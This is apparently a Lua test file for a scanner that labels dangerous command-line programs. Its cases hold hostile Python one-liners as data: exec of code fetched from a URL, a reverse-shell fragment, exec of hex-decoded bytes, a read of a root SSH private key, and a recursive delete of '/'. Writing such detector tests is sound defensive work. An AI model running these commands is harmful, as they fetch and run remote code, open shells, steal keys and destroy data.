local code = lib("code")

local function rules(text, language)
  local out = {}
  for _, f in ipairs(code.findings(text, language)) do out[#out + 1] = f.rule end
  return table.concat(out, " ")
end

test("programs on the command line", function(t)
  t.equal(rules("", "python"), "")
  t.equal(rules("print(1)", "unheard-of"), "")
  t.equal(rules("import json; print(json.dumps({}))", "python"), "")
  t.equal(rules("import requests; print(requests.get('http://x').json())", "python"), "")
  t.equal(rules("import requests; exec(requests.get('http://x').text)", "python"), "pipe_to_shell")
  t.equal(rules("import soc' + 'ket", "python"), "")
  t.equal(rules("s=__import__('soc'+'ket').socket();import os;os.dup2(s.fileno(),1)", "python"), "reverse_shell")
  t.equal(rules("exec(bytes.fromhex('00'))", "python"), "hidden_code")
  t.equal(rules("print(open('/root/.ssh/id_rsa').read())", "python"), "secret_read")
  t.equal(rules("shutil.rmtree('/')", "python"), "destructive_delete")
  t.ok(code.sensitive_name("AWS_SECRET_ACCESS_KEY") and code.sensitive_name("github_token") and not code.sensitive_name("PATH"))
end)
